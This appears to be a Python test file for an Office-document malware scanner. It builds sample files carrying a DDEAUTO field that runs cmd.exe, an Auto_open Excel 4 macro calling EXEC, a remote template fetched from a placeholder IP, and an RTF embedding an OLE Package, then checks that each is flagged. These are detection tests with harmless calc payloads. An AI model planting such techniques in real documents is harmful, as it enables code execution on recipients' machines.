"""The Office scanner on documents built at test time (see test_audit_samples)."""

from __future__ import annotations

import os
import struct
import zipfile
from pathlib import Path

from tests.unit.test_audit_samples import (
    AUTOOPEN_DROPPER,
    AUTOOPEN_ONLY,
    build_docx,
    build_encrypted_office,
    build_text,
)
from zionwm.quarantine.audit import office
from zionwm.quarantine.report import Verdict


def test_docm_with_autoopen_dropper_is_malicious(tmp_path: Path) -> None:
    path = build_docx(tmp_path / "invoice.docm", AUTOOPEN_DROPPER)
    findings = office.scan(str(path), "invoice.docm", None)
    assert [(f.rule, f.verdict) for f in findings] == [("vba-autoexec-dropper", Verdict.MALICIOUS)]
    assert "AutoOpen" in findings[0].detail and "Shell" in findings[0].detail


def test_docm_with_harmless_autoopen_is_suspicious(tmp_path: Path) -> None:
    path = build_docx(tmp_path / "hello.docm", AUTOOPEN_ONLY)
    findings = office.scan(str(path), "hello.docm", None)
    assert [(f.rule, f.verdict) for f in findings] == [("vba-autoexec", Verdict.SUSPICIOUS)]


def test_scan_through_an_fd(tmp_path: Path) -> None:
    path = build_docx(tmp_path / "invoice.docm", AUTOOPEN_DROPPER)
    fd = os.open(path, os.O_RDONLY)
    try:
        assert [f.rule for f in office.scan(fd, "invoice.docm", None)] == ["vba-autoexec-dropper"]
    finally:
        os.close(fd)


def test_remote_template_is_malicious(tmp_path: Path) -> None:
    path = build_docx(tmp_path / "cv.docx", template_url="http://198.51.100.7/t.dotm")
    findings = office.scan(str(path), "cv.docx", None)
    assert [(f.rule, f.verdict) for f in findings] == [("remote-template", Verdict.MALICIOUS)]
    assert "198.51.100.7" in findings[0].detail


def test_dde_field_is_suspicious(tmp_path: Path) -> None:
    path = build_docx(tmp_path / "dde.docx")
    body = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
        '"/k calc.exe"\'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body></w:document>'
    )
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp_path / "dde2.docx", "w") as dst:
        for info in src.infolist():
            data = body.encode() if info.filename == "word/document.xml" else src.read(info)
            dst.writestr(info.filename, data)
    findings = office.scan(str(tmp_path / "dde2.docx"), "dde.docx", None)
    assert [(f.rule, f.verdict) for f in findings] == [("dde-field", Verdict.SUSPICIOUS)]
    assert "cmd.exe" in findings[0].detail


def test_encrypted_document_is_cannot_inspect(tmp_path: Path) -> None:
    path = build_encrypted_office(tmp_path / "secret.docx")
    findings = office.scan(str(path), "secret.docx", None)
    assert [(f.rule, f.verdict) for f in findings] == [
        ("encrypted-document", Verdict.CANNOT_INSPECT)
    ]


def test_clean_docx_and_non_office_files(tmp_path: Path) -> None:
    assert office.scan(str(build_docx(tmp_path / "plain.docx")), "plain.docx", None) == []
    assert office.scan(str(build_text(tmp_path / "a.txt")), "a.txt", None) == []
    # a text file that talks about macros is not a document with macros
    assert office.scan(b'Sub AutoOpen()\r\nShell "x"\r\nEnd Sub\r\n', "a.bas", None) == []


def test_office_kind() -> None:
    assert office.office_kind(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(8)) == "ole"
    assert office.office_kind(b"{\\rtf1\\ansi") == "rtf"
    assert office.office_kind(b"ID;PWXL;N;E\r\n") == "slk"
    assert office.office_kind(b"PK\x03\x04....[Content_Types].xml") == "ooxml"
    assert office.office_kind(b"PK\x03\x04....notes/readme.txt") is None
    assert office.office_kind(b"%PDF-1.7") is None
    word2003 = (
        b'<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n<w:wordDocument>'
    )
    assert office.office_kind(word2003) == "xml"
    rels = (
        b'<?xml version="1.0"?><Relationships><Relationship Type="http://schemas.microsoft.com/'
        b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
    )
    assert office.office_kind(rels) is None


def test_excel4_macro_sheet_in_sylk_is_suspicious(tmp_path: Path) -> None:
    # SYLK: "O;E" marks a macro sheet, NN names Auto_open, C rows hold XLM formulas
    path = tmp_path / "prices.slk"
    path.write_bytes(
        b'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;EEXEC("calc.exe")\r\n'
        b"C;X1;Y102;K0;EHALT()\r\nE\r\n"
    )
    findings = office.scan(str(path), "prices.slk", None)
    assert [(f.rule, f.verdict) for f in findings] == [("xlm-macros", Verdict.SUSPICIOUS)]


def _lpstr(s: bytes) -> bytes:
    return struct.pack("<I", len(s) + 1) + s + b"\0"


def test_rtf_with_an_embedded_package_object_is_suspicious(tmp_path: Path) -> None:
    # an OLE 1.0 embedded object ([MS-OLEDS] 2.2.4): version, format 2 (embedded), class
    # name, topic, item, native data
    native = b"MZ" + bytes(62)
    ole1 = (
        struct.pack("<II", 0x00000501, 2)
        + _lpstr(b"Package")
        + _lpstr(b"")
        + _lpstr(b"")
        + struct.pack("<I", len(native))
        + native
    )
    rtf = (
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100"
        b"{\\*\\objdata " + ole1.hex().encode() + b"}}}"
    )
    path = tmp_path / "letter.rtf"
    path.write_bytes(rtf)
    findings = office.scan(str(path), "letter.rtf", None)
    assert [(f.rule, f.verdict) for f in findings] == [("rtf-embedded-object", Verdict.SUSPICIOUS)]
    assert "Package" in findings[0].detail


def test_plain_rtf_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "letter.rtf"
    path.write_bytes(b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello world.\\par }")
    assert office.scan(str(path), "letter.rtf", None) == []
